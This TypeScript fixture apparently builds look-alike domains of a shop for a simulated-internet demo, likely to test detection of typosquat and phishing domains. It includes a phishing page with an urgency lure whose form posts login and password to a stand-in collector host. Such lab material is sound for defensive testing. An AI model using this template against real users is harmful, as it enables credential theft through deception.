// Look-alikes of the healthy shop in the demo's internet: a copy that asks for a password, one for mail alone, one of the same
// owner, and one that appears while somebody watches.
import type { LabFault, LabQuestion } from '../lab_dns.ts'
import type { LabHost } from '../lab_internet.ts'
import { redirectTo, simpleMail, site } from './pages.ts'

/** A picture of one pixel (PNG), the icon of the shop and of its copy. */
export const shopIcon = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==',
  'base64',
)
export const iconResponse = { headers: [['Content-Type', 'image/png']] as const, body: shopIcon }

const copyPage = `<!doctype html>
<html lang="en"><head><meta charset="utf-8"><title>Walnut &amp; Oak: furniture made to order</title></head>
<body>
<h1>Your account is locked</h1>
<p>Log in within 24 hours, or your order is cancelled.</p>
<form action="http://collector.lab/drop.php" method="post">
<input type="email" name="login"><input type="password" name="pass"><button>Log in</button>
</form>
</body></html>`

export const demoLookalikes: readonly LabHost[] = [
  {
    name: 'healthy-sh0p.lab',
    addresses: ['45.130.40.41'],
    https: site({ '/': { body: copyPage }, '/favicon.ico': iconResponse }),
    certificate: { self_signed: true },
  },
  { name: 'healthyshop.lab', addresses: ['193.0.14.12'], http: redirectTo('https://healthy-shop.lab/') },
  {
    name: 'heathy-shop.lab',
    addresses: ['45.130.40.42'],
    records: simpleMail('heathy-shop.lab'),
  },
  {
    name: 'healthy-shop-login.lab',
    addresses: ['45.130.40.43'],
    https: site({ '/': { body: copyPage } }),
  },
  {
    name: 'healthy-shops.lab',
    addresses: ['45.130.40.44'],
    https: site({ '/': { body: copyPage } }),
  },
]

/** Milliseconds after the start until the last of them is registered. */
const LATER_MS = 120_000

/** `now` is the wall clock, in milliseconds. */
export function lookalikeFaults(now: () => number): (question: LabQuestion) => LabFault | undefined {
  const from = now() + LATER_MS
  return ({ name }) =>
    name.split('.').slice(-2).join('.') === 'healthy-shops.lab' && now() < from ? { rcode: 'NXDOMAIN' } : undefined
}
